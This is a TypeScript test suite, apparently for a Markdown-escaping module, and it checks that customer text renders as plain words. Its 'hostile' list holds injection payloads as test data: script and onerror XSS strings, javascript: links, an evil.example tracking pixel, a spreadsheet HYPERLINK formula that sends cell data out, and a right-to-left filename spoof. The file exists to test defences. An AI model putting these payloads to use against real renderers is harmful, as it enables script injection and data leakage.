import { deepEqual } from 'node:assert/strict';
import fc from 'fast-check';
import { visible } from '../../../src/domain/visible.ts';
import {
  codeSpan,
  fenced,
  isOneLine,
  joinPoints,
  literal,
  literalBlock,
  point,
} from '../../../src/text/markdown.ts';
import { tries } from '../../support/counts.ts';
import { rendered, seen } from './rendered.ts';

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>1</script>">',
  '<!-- hidden -->',
  '[x](javas&#99;ript:alert(1)) and <javascript:alert(1)>',
  '[x](command:workbench.action.quit)',
  '![pixel](https://evil.example/p.png)',
  '![a][b]',
  '[a]: https://evil.example',
  '[^1]: note',
  'https://evil.example/a_b_c?d=*e*, and more',
  'see www.evil.example.',
  'evil.com and node.js',
  '//evil.com/x',
  'write to maria@evil.example!',
  '<mailto:maria@evil.example>',
  '# heading',
  'a ##',
  '---',
  '===',
  '***',
  '- item',
  '+ item',
  '* item',
  '7. item',
  '7) item',
  '- [x] done',
  '> quote',
  '| a | b |',
  ': definition',
  '```js',
  '~~~',
  '~~gone~~ and ~so~',
  '**bold** __bold__ *it* _it_ snake_case_name',
  '`code` and ``more ` of it``',
  '&lt;b&gt; &copy; &#58; AT&T',
  'D:\\shop\\*\\x\\',
  '\\*not\\*',
  '$x^2$ costs $5',
  '=HYPERLINK("http://evil.example?"&A1,"open")',
  '\u0000 and \u001b[31mred\u0007',
  'a\u202egnp.exe',
  '\ud800 half',
  'שלום <b>עולם</b>',
  'Склад не может отгружать, 顧客は毎晩待っています 😀',
];

const lines = [
  'a\n---\nb',
  'a\n===',
  'a | b\n--- | ---\nc | d',
  '---\ntitle: x\n---',
  '1. a\n2. b',
  '> a\n> b',
  'a\n\nb\n\n\n# c',
  '```\na\n```',
  'a\\\nb\\',
  'a\r\nb\rc\u2028d',
  '<div>\n\n<b>x</b>\n</div>',
  '[a]: x\n[b]: y',
  'a  \nb',
];

const laidOut = [
  'TypeError: x\n    at Low.write (file:///srv/app.js:32:28)\n    at async <anonymous>',
  'a\tb\n1\t2',
  '    indented',
  'if x:\n  ```\n  ````\n',
  '\tat com.example.Main(Main.java:1)',
];

describe('the words of a customer in Markdown', () => {
  function check(markdown: string, text: string, elements: readonly string[]) {
    const page = rendered(markdown);
    const strange = page.elements.filter(one => !elements.includes(one));
    deepEqual({ text: page.text, strange }, { text: seen(visible(text)), strange: [] }, markdown);
  }

  for (const text of hostile) {
    it(`are nothing but words: ${JSON.stringify(text)}`, () => check(literal(text), text, ['p', 'code']));
  }

  it('are nothing but words in a heading, in a list and beside bold ones', () => {
    for (const text of hostile) {
      check(`# Of ${literal(text)}: x`, `Of ${text.trim()}: x`, ['h1', 'code']);
      check(`- **Heard**, ${literal(text)}: x`, `Heard, ${text}: x`, ['ul', 'li', 'strong', 'code']);
    }
  });

  const row = (text: string) => `| a | b |\n| --- | --- |\n| ${literal(text)} | c |`;
  const table = ['table', 'thead', 'tbody', 'tr', 'th', 'td', 'code'];

  it('are nothing but words in a cell of a table, bars and all', () => {
    for (const text of [...hostile, ...lines, 'https://x.example/a|b|?c=|', 'D:\\|x\\\\|y.com\\|z']) {
      check(row(text), `a b ${text} c`, table);
    }
  });

  for (const text of lines) {
    it(`keep their lines and nothing else: ${JSON.stringify(text)}`, () =>
      check(literalBlock(text), text, ['p', 'br', 'code']));
  }

  for (const text of laidOut) {
    it(`stand as they were laid out: ${JSON.stringify(text)}`, () => {
      deepEqual(literalBlock(text), fenced(text));
      check(literalBlock(text), text, ['pre', 'code']);
    });
  }

  it('stay words after a list and before a heading', () => {
    for (const text of [...hostile, ...lines, ...laidOut]) {
      const elements = ['ul', 'li', 'p', 'br', 'pre', 'code', 'h2'];
      check(`- a:\n\n${literalBlock(text)}\n\n## b`, `a: ${visible(text)} b`, elements);
    }
  });

  it('stay words whatever they are made of', function () {
    this.timeout(120_000);
    const pieces = [...hostile, ...lines, ...'*_`~[]()<>&#+-=|\\!:;.,$^ \n\t019aZé@"\'{}'.split('')];
    const texts = fc.array(
      fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4, unit: 'binary' })),
      { maxLength: 10 },
    );
    const holdsWords = (text: string) => visible(text).trim() !== '';
    const anyText = texts.map(parts => parts.join('')).filter(holdsWords);
    const property = fc.property(anyText, text => {
      check(literal(text), text, ['p', 'code']);
      check(literalBlock(text), text, ['p', 'br', 'pre', 'code']);
      check(row(text), `a b ${text} c`, table);
    });
    fc.assert(property, { numRuns: tries(300, 5000) });
  });
});

describe('the escaping', () => {
  const check = (text: string, expected: string) => deepEqual(literal(text), expected);

  it('leaves plain words as they are', () => {
    for (const text of [
      'Exports stop after 30 s',
      'snake_case',
      'a > b & c',
      "we'll see (soon)!",
      'a: b - c',
    ]) {
      check(text, text);
    }
  });
  it('shows an address as code, without the sign that ends the sentence', () =>
    check('see https://a.example/x_y.', 'see `https://a.example/x_y`.'));
  it('takes more ticks than the address holds', () => check('`a.b@c`', '`` `a.b@c` ``'));
  it('keeps right-to-left words from turning their neighbours', () => check('שלום', '\u2068שלום\u2069'));
  it('puts many lines on one where there is one', () => check(' a\n\n  b ', 'a b'));
  it('takes a million signs', () => deepEqual(literal('*'.repeat(1 << 20)).length, 2 << 20));
});

describe('a fence', () => {
  it('is longer than any run of ticks in it', () =>
    deepEqual(fenced('a\n````\nb'), '`````\na\n````\nb\n`````'));
  it('has three ticks at least', () => deepEqual(fenced('a\n'), '```\na\n```'));
});

describe('a code span', () => {
  it('is one line', () => deepEqual(codeSpan('a\nb'), '`a b`'));
  it('keeps a tick at its edge apart', () => deepEqual(codeSpan('`a'), '`` `a ``'));
});

describe('what fits on one line', () => {
  const check = (text: string, expected: boolean) => deepEqual(isOneLine(text), expected);

  it('is a text without line breaks inside', () => check('a\n', true));
  it('is no text of two lines', () => check('a\nb', false));
  it('is no text that was laid out', () => check('a   b', false));
});

describe('a point', () => {
  const ours = { before: 'We heard: ', after: ' (today)' };
  const check = (text: string, expected: string) => deepEqual(point(text, ours), expected);

  it('has our words on its line', () => check('a *b*\n', '- We heard: a \\*b\\* (today)'));
  it('has them above and below what is more than a line', () =>
    check('a\nb', '- We heard:\n\na\\\nb\n\n(today)'));
  it('needs none of ours', () => deepEqual([point('a'), point('a\nb')], ['- a', 'a\\\nb']));
});

describe('points under each other', () => {
  it('stand close when each is a line', () => deepEqual(joinPoints(['- a', '- b']), '- a\n- b'));
  it('stand apart from what is more than a line', () =>
    deepEqual(joinPoints(['- a', '```\nb\n```', '- c']), '- a\n\n```\nb\n```\n\n- c'));
});
